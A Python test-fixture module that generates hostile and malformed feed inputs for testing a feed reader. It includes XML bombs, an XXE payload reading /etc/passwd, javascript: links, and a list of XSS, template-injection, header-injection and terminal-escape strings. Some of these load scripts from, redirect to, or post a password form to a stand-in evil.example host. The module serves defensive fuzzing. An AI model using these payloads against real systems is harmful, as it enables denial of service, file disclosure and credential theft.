"""Monsters, generated: for each row of what was tried against readers of feeds, something of that kind."""

from __future__ import annotations

import gzip
import html
import json
from typing import Final

RSS_HEAD: Final = b"<?xml version='1.0' encoding='utf-8'?><rss version='2.0'><channel><title>T</title>"
RSS_END: Final = b"</channel></rss>"
ATOM: Final = "http://www.w3.org/2005/Atom"
FEED_TYPE: Final = {"Content-Type": "application/rss+xml"}


DATES: Final = (
    "0000-00-00", "10000-01-01T00:00:00Z", "marraskuun 3. päivä", "-1", "9" * 400, "Thu, 32 Foo 2026 99:99:99",
    "Mon, 01 Jan 1601 00:00:00 GMT", "Sun, 22 Nov 2099 00:00:00 GMT",
)  # fmt: skip
"""None of them is a day on which anything was published."""


def feed(*items: str) -> bytes:
    """An RSS 2.0 feed of items whose XML is given."""
    return RSS_HEAD + "".join(items).encode("utf-8", "surrogatepass") + RSS_END


def item(title: str, *, link: str = "https://monsters.example.fi/monster", more: str = "") -> str:
    """One item; ``title`` and ``link`` are texts, ``more`` is XML."""
    return f"<item><title>{html.escape(title)}</title><link>{html.escape(link)}</link>{more}</item>"


def bombs() -> dict[str, bytes]:
    """What costs a naive parser time or memory, by the name of its kind."""
    entities = "".join(f"<!ENTITY e{number} '{'x' * 20}'>" for number in range(60_000)).encode()
    laughs = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
    spaces = " ".join(f"xmlns:p{number}='u:{number}'" for number in range(100_000))
    return {
        "leading-blanks": b" " * 200_000 + feed(item("Blanks")),
        "two-megabytes-of-entities": b"<?xml version='1.0'?><!DOCTYPE r [" + entities + b"]>" + RSS_HEAD[39:] + RSS_END,
        "billion-laughs": f"<!DOCTYPE r [<!ENTITY l0 'ha'>{laughs}]><rss><channel><title>&l9;".encode(),
        "external-entity": b"<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><rss><channel><title>&x;</title>",
        "prefixes": f"<rss version='2.0' {spaces}/>".encode(),
        "style": feed(item("Style", more=f"<description>&lt;p style='{'a:b;' * 25_000}'&gt;x&lt;/p&gt;</description>")),
        "comments": RSS_HEAD + b"<!--" * 100_000 + RSS_END,
        "escaped-comments": feed(item("Comments", more="<description>" + "&lt;!--" * 100_000 + "</description>")),
        "a-million-elements": RSS_HEAD + b"<a>" * 1_000_000,
        "many-items": feed(*(item(f"{n}", link=f"https://monsters.example.fi/{n}") for n in range(20_000))),
        "attributes": f"<rss version='2.0' {' '.join(f'a{n}={n!r}' for n in map(str, range(50_000)))}/>".encode(),
        "one-long-title": feed(item("A" * 2_000_000)),
        "marks": feed(item("Z" + "\u0301" * 200_000)),
        "deep-json": b'{"version": "https://jsonfeed.org/version/1.1", "items": ' + b"[" * 200_000,
        "long-number": b'{"version": "https://jsonfeed.org/version/1.1", "items": [' + b"9" * 1_000_000 + b"]}",
        "nul-bytes": b"\0" * 1_000_000,
    }


def oddities() -> dict[str, bytes]:
    """What is wrong in a way that made feedparser raise something of its own, by the name of its kind."""
    links = ("javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "//[", "http://x:99999/", "vbscript:x")
    dated = [
        item(f"Date {n}", link=f"https://monsters.example.fi/date-{n}", more=f"<pubDate>{date}</pubDate>")
        for n, date in enumerate(DATES)
    ]
    return {
        "a-path": b"/etc/passwd",
        "an-address": b"file:///etc/passwd",
        "nothing-but-a-mark": b"\xef\xbb\xbf",
        "wrong-encoding": b"<?xml version='1.0' encoding='utf-7'?>" + feed(item("+ADw-script+AD4-"))[38:],
        "unknown-encoding": b"<?xml version='1.0' encoding='klingon'?>" + feed(item("Klingon"))[38:],
        "idna-encoding": b"<?xml version='1.0' encoding='idna'?>" + feed(item("x" * 100))[38:],
        "broken-utf-8": RSS_HEAD + b"<item><title>\xc3\x28\xff\xed\xa0\x80</title><link>https://a.fi/1</link></item>",
        "wide-without-mark": feed(item("Wide")).decode().encode("utf-16-le"),
        "odd-base": f"<feed xmlns='{ATOM}' xml:base='//['><entry><title>x</title><link href='a'/>".encode(),
        "odd-links": feed(*(item(f"Link {n}", link=link) for n, link in enumerate(links))),
        "odd-dates": feed(*dated),
        "odd-numbers": feed(item("N", more=f"<itunes:duration>{'9' * 5000}</itunes:duration>")),
        "not-an-object": b"{}",
        "wrong-types": json.dumps({"version": 1, "title": [], "items": [1, None, {"url": {}, "id": []}]}).encode(),
        "cut-off": feed(item("Cut"))[:-40],
        "html": b"<!doctype html><title>x</title>",
        "gzip-in-gzip": gzip.compress(gzip.compress(bytes(1_000_000), mtime=0), mtime=0),
    }


HOSTILE_TEXTS: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</title></style><script src=//evil.example/x.js></script>",
    '" onmouseover="alert(1)" style=\'x',
    "' onfocus=alert(1) autofocus '",
    "<a href='javascript:alert(1)'>linkki</a>",
    "<a href='&#106;avascript:alert(1)'>linkki</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "]]><script>alert(1)</script><![CDATA[",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} {# x #}",
    "{{ ''.__class__.__mro__ }}",
    "%(num)s %s %n ${7*7} #{7*7} <%= 7*7 %>",
    "=?utf-8?q?a=0ABcc=3Av=40e.fi?=",
    "=?utf-8?b?DQpCY2M6IHZAZS5maQ==?=",
    "Uutta\r\nBcc: v@e.fi\r\n\r\n<script>alert(1)</script>",
    "Uutta\x85Bcc: v@e.fi\u2028Bcc: w@e.fi\u2029",
    "\u202eliaH\u202c \u2066piilo\u2069 \u200f\u061c",
    "\u200b\u200b\ufeff\u2060",
    "lone \udcff surrogate",
    "\x1b]0;otsikko\x07\x1b[2J\x1b[31mpunainen",
    "a\x00b\x08c",
    "\u202e<b>x</b>",
    "<style>*{display:none}</style>Tyyli",
    "<base href='https://evil.example/'>Pohja",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>Siirto",
    "<form action='https://evil.example/'><input name=salasana></form>Lomake",
    "https://user:pw@evil.example/ <https://evil.example/>",
    "-- \n\nFrom nobody",
    ".",
    "..",
    "\r\n.\r\nMAIL FROM:<x@e.fi>",
    "&lt;![CDATA[&lt;script&gt;alert(1)&lt;/script&gt;]]&gt;",
    "../../etc/passwd",
    "A" * 5000,
    "Z" + "\u0301\u0323" * 500,
    "😀\u200d" * 300,
)
"""What a publisher may write into a title, a summary or its own name."""
